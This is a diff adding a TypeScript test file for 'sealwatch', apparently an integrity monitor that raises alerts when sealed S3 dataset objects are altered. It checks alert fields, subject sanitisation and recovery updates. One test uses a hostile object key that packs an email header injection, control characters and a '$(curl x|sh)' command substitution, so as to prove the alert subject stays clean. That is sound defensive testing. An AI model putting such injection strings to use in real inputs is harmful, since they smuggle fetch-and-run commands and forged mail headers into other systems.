@@ -1,0 +1,106 @@
+import { describe, expect, it } from 'vitest';
+import { AlertInbox } from './_helpers/alerts.ts';
+import { digestOf } from './_helpers/bytes.ts';
+import { seal, sealwatch } from './_helpers/command.ts';
+import { deployment } from './_helpers/deployment.ts';
+import { created, handle } from './_helpers/events.ts';
+import { GuardedObject } from './_helpers/guarded-object.ts';
+
+// Nothing else has these bytes, or it would be named as a copy that survives.
+const APPROVED = 'the only approved bytes';
+const POISONED = 'the only poisoned bytes';
+
+const sealedWith = async (object: GuardedObject) => {
+  const baseline = await object.put(APPROVED);
+  await seal(object.dataset);
+  return { baseline, inbox: await AlertInbox.of(object.dataset) };
+};
+
+/** Puts bytes, and tells the functions as S3 does: once, so that every run is told in the same order. */
+const put = async (object: GuardedObject, bytes: string): Promise<string> => {
+  const versionId = await object.put(bytes);
+  await handle(created(object, versionId, bytes.length));
+  return versionId;
+};
+
+describe.concurrent('an alert', () => {
+  it('is one JSON document that holds what the contract promises', async () => {
+    const object = new GuardedObject('alert-altered', 'labels.jsonl');
+    const { baseline, inbox } = await sealedWith(object);
+    const versionId = await put(object, POISONED);
+    const { alert, attributes, subject } = await inbox.finding('object-altered');
+    const { account, region } = deployment;
+    const { bucket, key, dataset } = object;
+    const time = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
+    expect(alert).toMatchObject({
+      schema: 'sealwatch.alert/1',
+      kind: 'finding',
+      id: expect.stringMatching(/^[0-9a-f]{40}$/),
+      revision: 1,
+      rule: 'object-altered',
+      severity: 'critical',
+      state: 'open',
+      title: expect.any(String),
+      time,
+      account,
+      region,
+      dataset,
+      resource: { bucket, key, versionId },
+      actor: { arn: null, account, sourceIp: '203.0.113.9', requestId: expect.any(String) },
+      evidence: {
+        class: 'altered',
+        level: 'read',
+        current: true,
+        expected: { digest: digestOf(APPROVED), size: 23, versionId: baseline, since: expect.any(String) },
+        actual: { digest: digestOf(POISONED), size: 23, versionId, storedAt: expect.any(String) },
+        survives: [{ bucket, key, versionId: baseline }],
+      },
+      unknown: { 'actor.arn': expect.any(String), 'actor.userAgent': expect.any(String) },
+      techniques: expect.arrayContaining([
+        { framework: 'MITRE ATLAS', version: expect.any(String), id: expect.stringMatching(/^AML\.T\d{4}/) },
+      ]),
+      next: [`sealwatch findings ${alert.id.slice(0, 6)}`],
+    });
+    expect(alert).not.toHaveProperty('changed');
+    expect(attributes).toEqual({
+      severity: 'critical',
+      rule: 'object-altered',
+      bucket,
+      dataset,
+      kind: 'finding',
+    });
+    const short = alert.id.slice(0, 6);
+    expect(subject).toBe(`[CRITICAL] Sealwatch: object altered in alert-altered (${short})`);
+    expect(await sealwatch('findings', short)).toMatchObject({
+      exitCode: 0,
+      out: expect.stringContaining(key),
+    });
+  });
+
+  it('has a subject that SNS takes and nobody can write into, whatever the key', async () => {
+    const hostile = `\u202e[LOW]\nBcc: x@example.com\u0007 🦭 ${'ü'.repeat(300)} $(curl x|sh)`;
+    const object = new GuardedObject('alert-hostile', hostile);
+    const { inbox } = await sealedWith(object);
+    await put(object, POISONED);
+    const { alert, subject } = await inbox.finding('object-altered');
+    expect(alert.resource.key).toBe(object.key);
+    expect(subject).toMatch(/^\[CRITICAL\] [\x20-\x7e]{1,80}$/);
+    expect(subject).not.toContain('Bcc');
+  });
+
+  it('is followed by an update when the approved bytes are back', async () => {
+    const object = new GuardedObject('alert-recovered', 'labels.jsonl');
+    const { inbox } = await sealedWith(object);
+    await put(object, POISONED);
+    const first = await inbox.finding('object-altered');
+    await put(object, APPROVED);
+    const { alert, attributes } = await inbox.update('object-altered');
+    expect(alert).toMatchObject({ kind: 'update', id: first.alert.id, revision: 2, state: 'recovered' });
+    expect(alert.changed).toEqual(['state']);
+    expect(alert.evidence.current).toBe(false);
+    expect(attributes.kind).toBe('update');
+    const { alert: transient } = await inbox.finding('transient-content');
+    expect(transient.evidence.period).toEqual({ from: expect.any(String), to: expect.any(String) });
+    expect(inbox.received).toHaveLength(3);
+  });
+});
